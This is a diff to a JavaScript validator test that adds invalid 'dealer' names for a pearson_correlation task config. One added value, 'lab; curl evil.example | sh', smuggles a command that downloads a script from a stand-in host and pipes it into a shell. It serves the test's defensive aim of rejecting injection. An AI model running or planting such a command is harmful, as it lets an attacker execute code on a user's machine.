@@ -33,7 +33,8 @@ test('a task runs at sites where its type does, by native, with a dealer where i
   expect(faults('pearson_correlation', correlation, { address: 'node' })).toEqual([
     '/sf_init_config/dealer is required: the name of the dealer whose site takes part in pearson_correlation',
   ]);
-  for (const dealer of ['alice', 7])
+  // A site names it in a command for a person to type.
+  for (const dealer of ['alice', 7, '', '#neutral', 'lab; curl evil.example | sh', 'lab\n', `l${'a'.repeat(64)}`])
     expect(faults('pearson_correlation', correlation, { address: 'node', dealer })).toEqual([
       '/sf_init_config/dealer must be the name of a dealer that is no party of the task',
     ]);
